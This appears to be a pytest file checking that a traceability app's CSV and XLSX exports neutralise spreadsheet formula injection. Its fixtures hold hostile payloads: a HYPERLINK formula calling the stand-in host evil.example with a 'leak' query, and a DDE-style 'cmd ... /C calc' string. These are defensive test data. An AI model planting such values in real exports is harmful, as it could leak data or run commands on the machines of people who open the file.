"""Every CSV hytrace makes goes through trace/csvfile.py, and none carries a formula: a lot code
``=1+1`` or an organisation named ``=HYPERLINK(...)`` reaches a spreadsheet as text, while numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from tests import factories as f
from trace import csvfile
from trace.lineage import FSMA_COLUMNS, Direction, fsma_csv, fsma_xlsx
from trace.recalls import recall, report
from trace.recalls.models import ReasonIn

ROOT = Path(__file__).resolve().parents[2]
LOT_CODE = "=1+1"
ORG_NAME = '=HYPERLINK("http://evil.example/?leak","click")'
WHY = ReasonIn(reason="@SUM(1+1)*cmd|' /C calc'!A0 — lý do thu hồi")


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-5 kg", "-", "+84 912 345 678", ORG_NAME],
)
def test_text_starting_like_a_formula_gets_a_leading_apostrophe(value: str) -> None:
    assert csvfile.safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "-5",
        "-0.250",
        "-3,5",
        "12",
        "Nhãn lồng",
        "(01)09520001000010(10)=1+1",
        "a=b",
        "",
        -5,
        Decimal("-1.500"),
        2.5,
        True,
    ],
)
def test_numbers_and_ordinary_text_are_left_as_they_are(value: object) -> None:
    assert csvfile.safe_cell(value) == value


def test_a_record_is_rfc_4180_with_crlf_and_none_as_empty() -> None:
    assert csvfile.line(["a", "=1", 'x"y', "-5", None, Decimal("-2.5"), "b,c"]) == 'a,\'=1,"x""y",-5,,-2.5,"b,c"\r\n'
    assert csvfile.text(["h1", "h2"], [[1, "@x"], ["", None]]) == "h1,h2\r\n1,'@x\r\n,\r\n"


def _writers(folder: str) -> list[str]:
    """Places in a folder's code that make a CSV writer of the csv module themselves."""
    found = []
    for path in sorted((ROOT / folder).rglob("*.py")):
        if path == ROOT / "trace" / "csvfile.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            named = (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in {"writer", "DictWriter"}
            )
            imported = (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and any(a.name in {"writer", "DictWriter"} for a in node.names)
            )
            if named or imported:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    return found


def test_no_code_writes_csv_but_through_the_one_safe_writer() -> None:
    assert [place for folder in ("trace", "api", "workers", "labels", "bench") for place in _writers(folder)] == []


def _evil_lot(session: Session) -> tuple[int, int, str]:
    """A lot with a formula for a code, harvested and recalled by an organisation with a formula for a
    name: the lot's id, the recall's id and the organisation's name as stored."""
    coop = f.org(session, name=ORG_NAME)
    lot_id = f.harvest(session, coop, "10", lot_code=LOT_CODE).lot_ids[0]
    found = recall.recall(session=session, actor=f.member(coop), lot_id=lot_id, data=WHY)
    return lot_id, found.id, coop.name  # type: ignore[return-value]


def test_the_trace_csv_writes_a_formula_lot_code_and_organisation_name_as_text(
    session: Session,
) -> None:
    # given
    lot_id, _, name = _evil_lot(session)
    assert name == ORG_NAME
    # when
    text = fsma_csv(session=session, actor=f.ADMIN, lot_id=lot_id, direction=Direction.FORWARD)
    rows = list(csv.DictReader(io.StringIO(text)))
    # then: the harvest and the recall, each cell shown as the text it is
    assert [r["critical_tracking_event"] for r in rows] == ["Harvesting", "Recall"]
    assert {r["lot_code"] for r in rows} == {"'" + LOT_CODE}
    assert {r["recorded_by"] for r in rows} == {"'" + ORG_NAME}
    assert rows[1]["reason"] == "'" + WHY.reason
    assert rows[0]["quantity"] == "10.000"  # a number stays a number
    assert not any(cell.startswith(csvfile.FORMULA_STARTS) for r in rows for cell in r.values())
    # and the workbook keeps them as text cells (never a formula), the quantity as a number
    sheet = load_workbook(
        io.BytesIO(fsma_xlsx(session=session, actor=f.ADMIN, lot_id=lot_id, direction=Direction.FORWARD))
    ).active
    assert sheet is not None
    cells = {name: cell for name, cell in zip(FSMA_COLUMNS, next(sheet.iter_rows(min_row=2)), strict=True)}
    assert (cells["lot_code"].value, cells["lot_code"].data_type) == (LOT_CODE, "s")
    assert (cells["recorded_by"].value, cells["recorded_by"].data_type) == (ORG_NAME, "s")
    assert cells["quantity"].data_type == "n"


def test_the_recall_report_csv_writes_a_formula_lot_code_and_holder_name_as_text(
    session: Session,
) -> None:
    # given
    _, recall_id, _ = _evil_lot(session)
    # when
    _, rows = report.rows(session=session, actor=f.ADMIN, recall_id=recall_id)
    parsed = list(csv.DictReader(io.StringIO(report.to_csv(rows))))
    # then
    assert len(parsed) == 1
    assert (parsed[0]["lot_code"], parsed[0]["holder_name"]) == ("'" + LOT_CODE, "'" + ORG_NAME)
    assert (parsed[0]["lot_quantity"], parsed[0]["quantity_held"]) == ("10.000", "10.000")
    assert not any(cell.startswith(csvfile.FORMULA_STARTS) for r in parsed for cell in r.values())
